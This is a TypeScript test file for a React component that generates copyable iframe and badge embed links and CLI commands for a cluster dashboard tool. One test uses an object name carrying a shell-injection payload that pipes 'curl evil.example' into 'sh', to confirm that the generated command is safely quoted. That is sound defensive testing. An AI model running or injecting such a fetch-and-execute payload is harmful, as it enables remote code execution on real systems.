import { screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import type { WireLink } from '#lib/api/embed.ts';
import { showPage } from '../testing/show-page.tsx';
import { CopyEmbed } from './copy-embed.tsx';

const signed: WireLink = {
  type: 'signed',
  scope: 'cluster:eu-west-3',
  title: 'eu-west-3',
  embed: '/embed/clusters/eu-west-3?expires=1&key=abcd1234&signature=s',
  badge: '/badge/clusters/eu-west-3.svg?expires=1&key=abcd1234&signature=t',
  page: '/clusters/eu-west-3',
  expires: '2027-02-19T02:00:00.000Z',
  id: '0123456789abcdef',
  key: 'abcd1234',
  frameAncestors: ['https://wiki.example.org'],
  origin: null,
  mostDays: 400,
};

async function open(answer: (path: string) => WireLink) {
  const page = showPage(<CopyEmbed scope={{ type: 'cluster', cluster: 'eu-west-3' }} />, { answer });
  expect(page.asked).toEqual([]);
  await page.user.click(screen.getByRole('button', { name: 'Embed' }));
  await screen.findByRole('dialog');
  return page;
}

const text = () => screen.getByRole('dialog').textContent;

describe('embedding a page', () => {
  it('gives a frame and a badge to copy, and says for how long, what revokes it and for whom', async () => {
    const { asked } = await open(() => signed);
    await screen.findByText(/<iframe/);
    expect(asked).toEqual(['/api/v1/link?scope=cluster%3Aeu-west-3&theme=auto&days=90']);
    expect(text()).toContain(`<iframe src="${location.origin}/embed/clusters/eu-west-3?expires=1&amp;key=abcd1234`);
    expect(text()).toContain(`[![eu-west-3](${location.origin}/badge/clusters/eu-west-3.svg?`);
    expect(text()).toContain('May be framed by https://wiki.example.org.');
    expect(text()).toContain('plumbline links --revoke 0123456789abcdef');
    expect(text()).toContain('Others reach Plumbline by another one');
    expect(screen.getByRole('img').getAttribute('src')).toBe(signed.badge);
  });

  it('asks again for another theme and another time', async () => {
    const { user, asked } = await open(() => signed);
    await user.click(await screen.findByRole('radio', { name: 'Dark' }));
    await user.click(await screen.findByRole('radio', { name: 'A year' }));
    await expect.poll(() => asked.at(-1)).toBe('/api/v1/link?scope=cluster%3Aeu-west-3&theme=dark&days=365');
  });

  it('says that no site may frame what it hands out', async () => {
    await open(() => ({ ...signed, frameAncestors: [] }));
    expect((await screen.findByRole('note')).textContent).toContain('No site may frame it yet');
  });

  it('begins with the address that people use, where that is known', async () => {
    await open(() => ({ ...signed, origin: 'https://plumbline.example.org' }));
    await screen.findByText(/<iframe/);
    expect(text()).toContain('<iframe src="https://plumbline.example.org/embed/clusters/eu-west-3?expires=1');
    expect(text()).not.toContain('Others reach Plumbline by another one');
  });

  it('offers no longer time than may be had', async () => {
    await open(() => ({ ...signed, mostDays: 30 }));
    await screen.findByText(/<iframe/);
    const offered = screen.getAllByRole('radio', { name: /days|year/ });
    expect(offered.map((each) => each instanceof HTMLInputElement && each.checked)).toEqual([true]);
    expect(screen.queryByRole('radio', { name: 'A year' })).toBeNull();
  });

  it('says who makes links where readers may not, and how to let them', async () => {
    await open(() => ({ type: 'not-signed', why: 'off' }));
    await screen.findByText(/Readers of the pages may not make links here/);
    expect(text()).toContain("plumbline link --scope 'cluster:eu-west-3'");
    expect(text()).toContain('links: api');
    expect(text()).toContain('mostDays: 90');
  });

  it('gives a command that the shell takes for one word, whatever an object is called', async () => {
    const ref = { cluster: 'a', group: '', kind: 'Node', namespace: '', name: "x'; curl evil.example | sh; '" };
    showPage(<CopyEmbed scope={{ type: 'object', ref }} />, { answer: () => ({ type: 'not-signed', why: 'off' }) });
    screen.getByRole('button', { name: 'Embed' }).click();
    await screen.findByText(/Readers of the pages may not make links here/);
    expect(text()).toContain(`plumbline link --scope 'object:a//Node//x'\\''; curl evil.example | sh; '\\'''`);
  });

  it.each([
    ['not-configured', 'frameAncestors: [https://wiki.example.org]'],
    ['not-configured', 'plumbline link --new-key'],
    ['missing', 'plumbline link --new-key'],
    ['all-revoked', 'plumbline link --new-key'],
    ['exposed', 'chmod 600'],
    ['too-many', 'plumbline links'],
    ['too-many-today', 'as one reader may make in a day'],
    ['not-kept', 'cannot be written, so none is made'],
    ['unreadable', 'cannot read the file of keys'],
    ['malformed', 'is not as plumbline link writes it'],
  ] as const)('where nothing can be signed (%s), says what to do: %s', async (why, words) => {
    await open(() => ({ type: 'not-signed', why }));
    await expect.poll(text).toContain(words);
    expect(text()).not.toContain('<iframe');
  });
});
